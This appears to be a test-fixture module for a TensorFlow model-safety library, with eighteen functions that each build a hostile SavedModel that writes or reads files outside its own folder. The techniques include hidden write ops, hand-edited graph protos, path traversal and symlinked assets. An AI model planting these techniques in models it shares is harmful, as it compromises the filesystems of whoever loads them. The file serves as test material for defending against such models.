"""SavedModels that an attacker would make with TensorFlow: each does something outside of its own folder.

`outside` is a folder with a file "secret" in it. An attack writes a file "written" there, or reads the secret.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import tensorflow as tf

from tensorkeep.io.coding.varint import encode_varint
from tensorkeep.proto.messages import AttrValue, FunctionDef, MetaGraphDef, NodeDef, SavedModel, serialize

v1 = tf.compat.v1
Attack = Callable[[Path, Path], None]
SERVING = "serving_default"
STRING, FLOAT = 7, 1


# ------------------------------------------------------------------------------------------------------- TensorFlow 2


def export_function(folder: Path, run: Callable[[Any], Any], **objects: Any) -> None:
    """A model of TensorFlow 2 whose signature is a function of Python, traced."""
    module = tf.Module()
    for name, item in objects.items():
        setattr(module, name, item)
    module.f = tf.function(lambda x: {"y": run(x)}, input_signature=[tf.TensorSpec([], tf.float32, "x")])
    tf.saved_model.save(module, str(folder), signatures={SERVING: module.f})


def nested_functions(folder: Path, outside: Path) -> None:
    @tf.function
    def innermost(x: Any) -> Any:
        tf.io.write_file(str(outside / "written"), "x")
        return x + 0.0

    @tf.function
    def inner(x: Any) -> Any:
        return innermost(x) + 0.0

    export_function(folder, inner)


def body_of_a_loop(folder: Path, outside: Path) -> None:
    def body(number: Any, x: Any) -> Any:
        tf.io.write_file(str(outside / "written"), "x")
        return number + 1, x + 0.0

    export_function(folder, lambda x: tf.while_loop(lambda number, _: number < 1, body, [0, x])[1])


def function_of_a_dataset(folder: Path, outside: Path) -> None:
    def written(number: Any) -> Any:
        tf.io.write_file(str(outside / "written"), "x")
        return number

    def run(x: Any) -> Any:
        numbers = tf.data.Dataset.range(1).map(written)
        total = numbers.reduce(tf.constant(0, tf.int64), lambda total, number: total + number)
        return x + tf.cast(total, tf.float32)

    export_function(folder, run)


def print_to_a_file(folder: Path, outside: Path) -> None:
    def run(x: Any) -> Any:
        tf.print("x", output_stream=f"file://{outside / 'written'}")
        return x + 0.0

    export_function(folder, run)


def initializer_of_a_resource(folder: Path, outside: Path) -> None:
    """TensorFlow calls `_initialize` as soon as it loads the object."""

    class Resource(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc]
        def _create_resource(self) -> Any:
            return tf.raw_ops.MutableHashTableV2(key_dtype=tf.int64, value_dtype=tf.int64, shared_name="t")

        def _initialize(self) -> None:
            tf.io.write_file(str(outside / "written"), "x")

    resource = Resource()

    def run(x: Any) -> Any:
        size = tf.raw_ops.LookupTableSizeV2(table_handle=resource.resource_handle)
        return x + tf.cast(size, tf.float32)

    export_function(folder, run, resource=resource)


# ------------------------------------------------------------------------------------------------------- TensorFlow 1


def export_graph(folder: Path, before: Callable[[], Any], **options: Any) -> None:
    """A model of TensorFlow 1 whose output waits for an operation, by a control dependency only."""
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [], "x")
        waited_for = before()
        with tf.control_dependencies([] if waited_for is None else [waited_for]):
            y = tf.identity(x, "y")
        builder = v1.saved_model.Builder(str(folder))
        signatures = {SERVING: v1.saved_model.predict_signature_def({"x": x}, {"y": y})}
        made = {name: make() for name, make in options.items()}
        builder.add_meta_graph_and_variables(session, ["serve"], signatures, strip_default_attrs=True, **made)
        builder.save()


def control_dependency(folder: Path, outside: Path) -> None:
    export_graph(folder, lambda: tf.raw_ops.WriteFile(filename=str(outside / "written"), contents="x"))


def debugger_with_defaults_stripped(folder: Path, outside: Path) -> None:
    urls = [f"file://{outside}"]
    export_graph(folder, lambda: tf.raw_ops.DebugIdentity(input=1.0, tensor_name="written:0", debug_urls=urls).op)


def main_operation(folder: Path, outside: Path) -> None:
    export_graph(folder, lambda: None, main_op=lambda: tf.io.write_file(str(outside / "written"), "x"))


def initializers_in_a_collection(folder: Path, outside: Path) -> None:
    """TensorFlow 2 runs what is in that collection, if the model names nothing else to run."""

    def before() -> None:
        written = tf.io.write_file(str(outside / "written"), "x")
        v1.add_to_collection(v1.GraphKeys.TABLE_INITIALIZERS, written)

    export_graph(folder, before)


def asset_that_is_read_later(folder: Path, outside: Path) -> None:
    """The loader feeds an asset's path when it initializes the model. A signature reads what the constant holds."""

    def before() -> Any:
        path = tf.constant(str(outside / "secret"), name="path")
        v1.add_to_collection(v1.GraphKeys.ASSET_FILEPATHS, path)
        size = tf.strings.length(tf.io.read_file(path))
        return tf.raw_ops.Assert(condition=size >= 0, data=[size])

    def assets() -> Any:
        return v1.get_collection(v1.GraphKeys.ASSET_FILEPATHS)

    export_graph(folder, before, assets_collection=assets)
    (folder / "assets" / "secret").write_bytes(b"harmless")


# ------------------------------------------------------------------------------------------------------ edited by hand


def edit(folder: Path, change: Callable[[MetaGraphDef], None]) -> None:
    path = folder / "saved_model.pb"
    model = SavedModel.FromString(path.read_bytes())
    change(model.meta_graphs[0])
    path.write_bytes(serialize(model))


def node(op: str, name: str, *inputs: str, **types: int) -> NodeDef:
    made = NodeDef(op=op, name=name, input=inputs)
    for key, number in types.items():
        made.attr[key].type = number
    return made


def text(name: str, *values: str, is_list: bool = False) -> NodeDef:
    """A constant."""
    made = node("Const", name, dtype=STRING)
    tensor = made.attr["value"].tensor
    tensor.dtype = STRING
    tensor.tensor_shape.SetInParent()
    if is_list:
        tensor.tensor_shape.dim.add(size=len(values))
    tensor.string_val.extend(value.encode() for value in values)
    return made


def waits_for(meta_graph: MetaGraphDef, *nodes: NodeDef) -> None:
    """Adds nodes, the last of which the output of the signature waits for."""
    (output,) = (item for item in meta_graph.graph_def.node if item.name == "y")
    meta_graph.graph_def.node.extend(nodes)
    output.input.append(f"^{nodes[-1].name}")


def gradient_of_a_harmless_function(folder: Path, outside: Path) -> None:
    """The library says which function is the gradient of another; no node names it. Its path is a saver's default."""
    export_graph(folder, lambda: None)

    def change(meta_graph: MetaGraphDef) -> None:
        library = meta_graph.graph_def.library
        harmless = library.function.add()
        harmless.signature.name = "harmless"
        harmless.signature.input_arg.add(name="a", type=FLOAT)
        harmless.signature.output_arg.add(name="b", type=FLOAT)
        harmless.node_def.append(node("Identity", "same", "a", T=FLOAT))
        harmless.ret["b"] = "same:output:0"
        library.function.append(_saving_gradient())
        library.gradient.add(function_name="harmless", gradient_func="writes")
        call = node("SymbolicGradient", "gradient", "x", "x")
        call.attr["f"].func.name = "harmless"
        call.attr["Tin"].list.type.extend([FLOAT, FLOAT])
        call.attr["Tout"].list.type.append(FLOAT)
        waits_for(meta_graph, call)

    edit(folder, change)


def _saving_gradient() -> FunctionDef:
    """A gradient that saves a checkpoint under the name that savers have by default, and so into the working folder."""
    writes = FunctionDef()
    writes.signature.name = "writes"
    writes.signature.is_stateful = True
    for name in ("a", "db"):
        writes.signature.input_arg.add(name=name, type=FLOAT)
    writes.signature.output_arg.add(name="da", type=FLOAT)
    save = node("SaveV2", "save", "model:output:0", "names:output:0", "slices:output:0", "a")
    save.attr["dtypes"].list.type.append(FLOAT)
    writes.node_def.extend(
        [text("model", "model"), text("names", "a", is_list=True), text("slices", "", is_list=True), save]
    )
    writes.node_def.append(node("Identity", "same", "db", "^save", T=FLOAT))
    writes.ret["da"] = "same:output:0"
    return writes


def checkpoint_of_somebody_else(folder: Path, outside: Path) -> None:
    """A signature restores from the constant that the loader feeds only while it restores."""
    with tf.Graph().as_default(), v1.Session() as session:
        v1.Variable(1.0, use_resource=True, name="secret")
        session.run(v1.global_variables_initializer())
        v1.train.Saver().save(session, str(outside / "model"))

    def before() -> Any:
        variable = v1.get_variable("v", initializer=1.0, use_resource=True)
        v1.get_default_session().run(variable.initializer)

    export_graph(folder, before)

    def change(meta_graph: MetaGraphDef) -> None:
        saver_path = meta_graph.saver_def.filename_tensor_name.partition(":")[0]
        nodes = {item.name: item for item in meta_graph.graph_def.node}
        default = nodes[nodes[saver_path].input[0]]
        default.attr["value"].tensor.string_val[:] = [str(outside / "model").encode()]
        restore = node("RestoreV2", "stolen", saver_path, "names", "slices")
        restore.attr["dtypes"].list.type.append(FLOAT)
        waits_for(meta_graph, text("names", "secret", is_list=True), text("slices", "", is_list=True), restore)

    edit(folder, change)


def attribute_of_the_caller(folder: Path, outside: Path) -> None:
    """The file is an attribute that the call puts in the place of a placeholder in the function."""
    export_graph(folder, lambda: None)

    def change(meta_graph: MetaGraphDef) -> None:
        function = meta_graph.graph_def.library.function.add()
        function.signature.name = "prints"
        function.signature.is_stateful = True
        function.signature.attr.add(name="where", type="string")
        function.signature.input_arg.add(name="a", type=FLOAT)
        function.signature.output_arg.add(name="b", type=FLOAT)
        printing = node("PrintV2", "print", "words:output:0")
        printing.attr["output_stream"].placeholder = "where"
        function.node_def.extend([text("words", "x"), printing, node("Identity", "same", "a", "^print", T=FLOAT)])
        function.ret["b"] = "same:output:0"
        call = node("StatefulPartitionedCall", "call", "x")
        call.attr["f"].func.name = "prints"
        call.attr["f"].func.attr["where"].CopyFrom(AttrValue(s=f"file://{outside / 'written'}".encode()))
        call.attr["Tin"].list.type.append(FLOAT)
        call.attr["Tout"].list.type.append(FLOAT)
        waits_for(meta_graph, call)

    edit(folder, change)


def constant_of_two_values(folder: Path, outside: Path) -> None:
    """A cache in memory by its strings; TensorFlow takes the bytes beside them, which name a file."""

    def run(x: Any) -> Any:
        numbers = tf.data.Dataset.range(1).cache("")
        return x + tf.cast(numbers.reduce(tf.constant(0, tf.int64), lambda total, number: total + number), tf.float32)

    export_function(folder, run)
    path = str(outside / "written").encode()

    def change(meta_graph: MetaGraphDef) -> None:
        for function in meta_graph.graph_def.library.function:
            nodes = {item.name: item for item in function.node_def}
            for cache in (item for item in function.node_def if item.op.startswith("CacheDataset")):
                constant = nodes[cache.input[1].partition(":")[0]]
                assert list(constant.attr["value"].tensor.string_val) == [b""]
                constant.attr["value"].tensor.tensor_content = encode_varint(len(path)) + path

    edit(folder, change)


def loop_that_goes_on_with_another_path(folder: Path, outside: Path) -> None:
    """The first round reads an asset, the second one what the first gave it."""
    words = folder.with_name("vocabulary")
    words.write_text("red")

    def body(number: Any, path: Any, size: Any) -> Any:
        size += tf.strings.length(tf.io.read_file(path))
        return number + 1, tf.constant(str(outside / "secret")), size

    asset = tf.saved_model.Asset(str(words))

    def run(x: Any) -> Any:
        start = [0, asset.asset_path, 0]
        return x + tf.cast(tf.while_loop(lambda number, *_: number < 2, body, start)[2], tf.float32)

    export_function(folder, run, asset=asset)


def vocabulary(folder: Path, words: Path) -> None:
    """A model that looks words up in a file among its assets, and is as it should be."""
    words.write_text("red\ngreen\n")

    def before() -> Any:
        filler = tf.lookup.TextFileInitializer(
            str(words), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER
        )
        table = tf.lookup.StaticHashTable(filler, -1)
        return table.lookup(tf.constant(["red"])).op

    def assets() -> Any:
        return v1.get_collection(v1.GraphKeys.ASSET_FILEPATHS)

    export_graph(folder, before, main_op=v1.tables_initializer, assets_collection=assets)


def asset_in_another_folder(folder: Path, outside: Path) -> None:
    vocabulary(folder, folder.with_name("vocabulary"))
    up = "../" * len(folder.parts)

    def change(meta_graph: MetaGraphDef) -> None:
        del meta_graph.collection_def["saved_model_assets"]
        for asset in meta_graph.asset_file_def:
            asset.filename = f"{up}{str(outside / 'secret').lstrip('/')}"

    edit(folder, change)


def asset_that_is_a_link(folder: Path, outside: Path) -> None:
    vocabulary(folder, folder.with_name("vocabulary"))
    (asset,) = (folder / "assets").iterdir()
    asset.unlink()
    asset.symlink_to(outside / "secret")


def folder_that_is_a_link(folder: Path, outside: Path) -> None:
    vocabulary(folder, folder.with_name("vocabulary"))
    (folder / "assets.extra").symlink_to(outside)


WRITING: dict[str, Attack] = {
    "nested functions": nested_functions,
    "body of a loop": body_of_a_loop,
    "function of a dataset": function_of_a_dataset,
    "print to a file": print_to_a_file,
    "initializer of a resource": initializer_of_a_resource,
    "control dependency": control_dependency,
    "debugger with defaults stripped": debugger_with_defaults_stripped,
    "main operation": main_operation,
    "initializers in a collection": initializers_in_a_collection,
    "gradient of a harmless function": gradient_of_a_harmless_function,
    "attribute of the caller": attribute_of_the_caller,
    "constant of two values": constant_of_two_values,
}
READING: dict[str, Attack] = {
    "asset that is read later": asset_that_is_read_later,
    "checkpoint of somebody else": checkpoint_of_somebody_else,
    "loop that goes on with another path": loop_that_goes_on_with_another_path,
    "asset in another folder": asset_in_another_folder,
    "asset that is a link": asset_that_is_a_link,
    "folder that is a link": folder_that_is_a_link,
}
